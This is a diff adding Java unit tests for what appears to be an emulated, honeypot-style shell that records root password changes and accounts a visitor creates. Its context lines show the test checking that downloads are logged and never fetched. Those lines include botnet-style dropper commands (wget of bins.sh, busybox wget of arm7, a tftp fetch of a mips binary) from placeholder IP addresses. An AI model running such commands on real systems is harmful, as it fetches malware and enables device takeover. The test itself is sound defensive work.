@@ -116,6 +116,29 @@ class MachineTest {
   }
 
   @Test
+  void aChangedPasswordIsReportedAndAnyOtherIsNot() throws Exception {
+    shell.run("echo 'root:s3cr3t:x' | chpasswd; echo root:abc | chpasswd | bash");
+    shell.run("printf 'new1\\nnew1\\n' | passwd; printf 'a\\nb\\n' | passwd root");
+    shell.run("echo nosuch:x | chpasswd; passwd nosuch; echo x | chpasswd; passwd -l root");
+    ShellFixture router = ShellFixture.router();
+    router.run("printf 'r0uter\\nr0uter\\n' | passwd");
+
+    assertThat(shell.passwords).containsExactly("root s3cr3t:x", "root abc", "root new1");
+    assertThat(router.passwords).containsExactly("root r0uter");
+    assertThat(shell.inputs).noneMatch(line -> line.equals("new1"));
+  }
+
+  @Test
+  void accountsThatAVisitorAddsAreThereForTheSession() throws Exception {
+    assertThat(
+            shell.run(
+                "useradd -m -s /bin/bash bob; grep -c ^bob: /etc/passwd; ls /home | grep bob;"
+                    + " echo bob:x | chpasswd; userdel bob; grep -c ^bob: /etc/passwd"))
+        .isEqualTo("1\nbob\n0\n");
+    assertThat(shell.run("grep -c ^bob: /etc/passwd")).isEqualTo("0\n");
+  }
+
+  @Test
   void nothingIsFetchedAndEveryAddressIsReported() throws Exception {
     shell.run("wget -q http://198.51.100.1/bins.sh -O /tmp/x; curl -sO http://a.example/b/c?d=1");
     shell.run("/bin/busybox wget http://198.51.100.1:8080/arm7; tftp -g -r mips -l m 198.51.100.2");
